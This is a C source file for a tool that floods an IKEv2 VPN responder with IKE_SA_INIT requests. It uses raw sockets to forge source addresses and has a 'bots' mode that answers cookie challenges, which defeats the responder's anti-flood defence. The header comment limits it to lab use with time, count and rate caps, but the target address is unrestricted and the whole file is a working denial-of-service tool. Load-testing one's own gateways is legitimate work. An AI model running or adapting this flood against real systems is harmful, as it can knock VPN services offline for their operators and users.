/*
 * A flood of IKE_SA_INIT requests, for the lab only: bounded in time, in number and in rate.
 *
 *   initflood forged TARGET SECONDS RATE    from random sources of 10.0.0.0/8; nothing is read
 *   initflood bots   TARGET SECONDS RATE    from 4,096 addresses of 10.66.0.0/20, which answer
 *                                           cookies, do not solve puzzles and never go on
 *
 * RATE is datagrams a second, 0 = as fast as it goes (at most 20 million in all). Needs a raw
 * socket; for bots the network must be local ("ip route add local 10.66.0.0/20 dev lo"). Prints, at
 * the end or at SIGTERM: sent N answered N in S.S s
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { IKE = 28, BATCH = 64, LARGEST = 512, SENT_MAX = 20000000, SECONDS_MAX = 120, BOTS = 4096 };

/* SA (one proposal: AES-GCM-256, HMAC-SHA2-256, X25519), KE, nonce. */
static const uint8_t sa_payload[] = {34, 0,  0, 40, 0, 0,  0,   36, 1, 1, 0, 3, 3, 0,
                                     0,  12, 1, 0,  0, 20, 128, 14, 1, 0, 3, 0, 0, 8,
                                     2,  0,  0, 5,  0, 0,  0,   8,  4, 0, 0, 31};
static uint64_t dice;

static uint64_t roll(void)
{
    uint64_t z = dice += 0x9e3779b97f4a7c15;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9;
    z = (z ^ z >> 27) * 0x94d049bb133111eb;
    return z ^ z >> 31;
}

static void fill(uint8_t *at, size_t len)
{
    for (size_t i = 0; i < len; i++)
        at[i] = (uint8_t)roll();
}

/* The same for the same bot and turn, so that the answer to a cookie is the same request again. */
static size_t request(uint8_t *at, uint64_t seed, const uint8_t *cookie, size_t cookie_len)
{
    uint64_t before = dice;
    uint8_t *p = at + IKE;
    dice = seed;
    memset(at, 0, IKE);
    memcpy(at, &seed, 8);
    at[16] = cookie ? 41 : 33;
    at[17] = 0x20;
    at[18] = 34;
    at[19] = 0x08;
    if (cookie) {
        const uint8_t head[] = {33, 0, 0, (uint8_t)(8 + cookie_len), 0, 0, 0x40, 0x06};
        memcpy(p, head, sizeof(head));
        memcpy(p + 8, cookie, cookie_len);
        p += 8 + cookie_len;
    }
    memcpy(p, sa_payload, sizeof(sa_payload));
    p += sizeof(sa_payload);
    memcpy(p, (uint8_t[]){40, 0, 0, 40, 0, 31, 0, 0}, 8);
    fill(p + 8, 32);
    p += 40;
    memcpy(p, (uint8_t[]){0, 0, 0, 36}, 4);
    fill(p + 4, 32);
    p += 36;
    size_t len = (size_t)(p - at);
    at[26] = (uint8_t)(len >> 8);
    at[27] = (uint8_t)len;
    dice = before;
    return len;
}

static size_t packet(uint8_t *at, uint32_t from, uint32_t to, uint64_t seed, const uint8_t *cookie,
                     size_t cookie_len)
{
    struct iphdr ip = {.version = 4,
                       .ihl = 5,
                       .ttl = 64,
                       .protocol = IPPROTO_UDP,
                       .saddr = htonl(from),
                       .daddr = to};
    size_t len = request(at + sizeof(ip) + 8, seed, cookie, cookie_len);
    struct udphdr udp = {
        .source = htons(500), .dest = htons(500), .len = htons((uint16_t)(8 + len))};
    ip.tot_len = htons((uint16_t)(sizeof(ip) + 8 + len)); /* the kernel does the checksum */
    memcpy(at, &ip, sizeof(ip));
    memcpy(at + sizeof(ip), &udp, sizeof(udp)); /* none for UDP: allowed over IPv4 */
    return sizeof(ip) + 8 + len;
}

static double seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t bot_seed(uint32_t bot, uint32_t turn)
{
    return ((uint64_t)turn << 32 | bot) * 0x9e3779b97f4a7c15 + 1;
}

static uint64_t sent, answered;
static uint32_t turn_of[BOTS]; /* of the request of each bot that is out */

static void send_batch(int fd, uint32_t to, bool bots, unsigned count)
{
    static uint8_t octets[BATCH][LARGEST];
    static struct mmsghdr messages[BATCH];
    static struct iovec iov[BATCH];
    static struct sockaddr_in address;
    address = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = to};
    for (unsigned i = 0; i < count; i++) {
        uint32_t n = (uint32_t)(sent + i), bot = n % BOTS;
        uint32_t from = bots ? 0x0a420000 + bot : 0x0a000000 | (uint32_t)(roll() & 0xffffff);
        turn_of[bot] = n / BOTS;
        iov[i].iov_base = octets[i];
        iov[i].iov_len =
            packet(octets[i], from, to, bots ? bot_seed(bot, n / BOTS) : roll(), NULL, 0);
        messages[i].msg_hdr = (struct msghdr){.msg_name = &address,
                                              .msg_namelen = sizeof(address),
                                              .msg_iov = &iov[i],
                                              .msg_iovlen = 1};
    }
    int done = sendmmsg(fd, messages, count, 0);
    sent += done > 0 ? (unsigned)done : 0;
}

/* One answer of the target: a cookie goes back with the request it was for. */
static void hear(int fd, uint32_t to, const uint8_t *at, size_t len)
{
    uint8_t out[LARGEST];
    struct iphdr ip;
    if (len < sizeof(ip) + 8 + IKE + 8)
        return;
    memcpy(&ip, at, sizeof(ip));
    const uint8_t *ike = at + sizeof(ip) + 8;
    uint32_t bot = ntohl(ip.daddr) - 0x0a420000;
    size_t cookie_len = (size_t)(ike[IKE + 2] << 8 | ike[IKE + 3]) - 8;
    if (ip.saddr != to || bot >= BOTS || ike[16] != 41 || ike[IKE + 6] != 0x40 ||
        ike[IKE + 7] != 0x06 || cookie_len > 64 || sizeof(ip) + 8 + IKE + 8 + cookie_len > len)
        return;
    uint64_t seed = bot_seed(bot, turn_of[bot]);
    if (memcmp(ike, &seed, 8) != 0)
        return;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = to};
    size_t size = packet(out, ntohl(ip.daddr), to, seed, ike + IKE + 8, cookie_len);
    if (sendto(fd, out, size, 0, (struct sockaddr *)&address, sizeof(address)) > 0)
        answered++;
}

static void hear_all(int in, int out, uint32_t to)
{
    uint8_t octets[2048];
    for (int i = 0; i < 4 * BATCH; i++) {
        ssize_t len = recv(in, octets, sizeof(octets), MSG_DONTWAIT);
        if (len <= 0)
            return;
        hear(out, to, octets, (size_t)len);
    }
}

static volatile sig_atomic_t enough;

static void stop(int signal)
{
    (void)signal;
    enough = 1;
}

int main(int argc, char **argv)
{
    struct in_addr to;
    bool bots = argc == 5 && strcmp(argv[1], "bots") == 0;
    if (argc != 5 || inet_pton(AF_INET, argv[2], &to) != 1) {
        fprintf(stderr, "usage: initflood forged|bots TARGET SECONDS RATE\n");
        return 2;
    }
    double length = atof(argv[3]), rate = atof(argv[4]);
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), in = -1;
    if (bots)
        in = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
    if (out < 0 || (bots && in < 0)) {
        perror("initflood: raw socket");
        return 1;
    }
    signal(SIGTERM, stop);
    length = length > SECONDS_MAX ? SECONDS_MAX : length;
    dice = (uint64_t)(seconds() * 1e6);
    double begin = seconds(), now = begin;
    while (!enough && sent < SENT_MAX && (now = seconds()) - begin < length) {
        double due = rate > 0 ? (now - begin) * rate - (double)sent : BATCH;
        if (bots)
            hear_all(in, out, to.s_addr);
        if (due >= 1)
            send_batch(out, to.s_addr, bots, due < BATCH ? (unsigned)due : BATCH);
        else
            usleep(200);
    }
    printf("sent %llu answered %llu in %.1f s\n", (unsigned long long)sent,
           (unsigned long long)answered, now - begin);
    return 0;
}
